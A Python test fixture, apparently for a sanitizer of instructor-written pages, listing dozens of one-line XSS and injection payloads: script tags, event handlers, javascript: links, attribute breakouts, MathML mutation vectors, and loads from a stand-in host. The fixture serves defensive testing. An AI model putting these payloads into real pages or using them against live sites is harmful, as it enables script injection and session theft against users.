"""What an instructor's text must not become: known ways to bring script, style, forms or outside hosts into a page.

After the OWASP filter-evasion list and published Markdown, MathML and mutation payloads. MARK stands in each, so that
a place that shows a vector can be told from one that drops it.
"""

MARK = "zzqx"

ONE_LINE = (
    "<script>zzqx(1)</script>",
    "<ScRiPt src=//zzqx.example/x.js></sCrIpT>",
    "<img src=x onerror=zzqx(1)>",
    "<img src=https://zzqx.example/x.png>",
    "<svg/onload=zzqx(1)>",
    "<svg><style>*{background:url(//zzqx.example)}</style></svg>",
    "<style>@import '//zzqx.example/x.css';</style>",
    "<link rel=stylesheet href=//zzqx.example/x.css>",
    "<base href=//zzqx.example/>",
    "<meta http-equiv=refresh content=0;url=//zzqx.example>",
    "<iframe srcdoc='<script>zzqx(1)</script>'></iframe>",
    "<object data=javascript:zzqx(1)></object><embed src=//zzqx.example>",
    "<form action=//zzqx.example><button formaction=javascript:zzqx(1)>go</button></form>",
    "<div hx-get=/me hx-trigger=load data-hx-on:load=zzqx(1)>x</div>",
    "<div style=background:url(//zzqx.example) onclick=zzqx(1)>x</div>",
    "<a href=javascript:zzqx(1)>x</a>",
    "<a href=x id=body name=cookie class=zzqx>x</a>",
    '"><script>zzqx(1)</script>',
    "'><img src=x onerror=zzqx(1)>",
    '" onmouseover="zzqx(1)" x="',
    "' onfocus='zzqx(1)' autofocus='",
    "` onclick=zzqx(1) `",
    "</title></textarea></script></style><script>zzqx(1)</script>",
    "--><script>zzqx(1)</script><!--",
    "]]><script>zzqx(1)</script>",
    "{{ 7*7 }} {% include 'base.html' %} zzqx",
    "${zzqx(1)} #{zzqx} <%= zzqx %>",
    "[x](javascript:zzqx(1))",
    "[x](JaVaScRiPt:zzqx(1))",
    "[x](data:text/html;base64,PHNjcmlwdD56enF4PC9zY3JpcHQ+zzqx)",
    "[x](vbscript:zzqx(1)) [y](//zzqx.example) [z](/\\zzqx.example)",
    "![x](https://zzqx.example/x.png) ![y](//zzqx.example/y.png)",
    '![" onerror="zzqx(1)](media/block.png)',
    '<https://zzqx.example/"onclick=zzqx(1)>',
    "$\\href{javascript:zzqx(1)}{x} \\style{color:red}{y}$",
    "$\\text{<img src=x onerror=zzqx(1)>}$",
    "$</math><script>zzqx(1)</script>$",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=zzqx(1)&gt;'>",
    "<math href=javascript:zzqx(1)><maction actiontype=statusline xlink:href=javascript:zzqx(1)>x</maction></math>",
    '{term}`<b onclick=zzqx(1)>x</b> <field>` {cite}`zzqx" onclick="1`',
    "&lt;script&gt;zzqx(1)&lt;/script&gt; &#60;script&#62;zzqx&#60;/script&#62;",
    "\u202e<script>zzqx(1)</script>",
    "x\u200bzzqx <\u200bscript>",
)
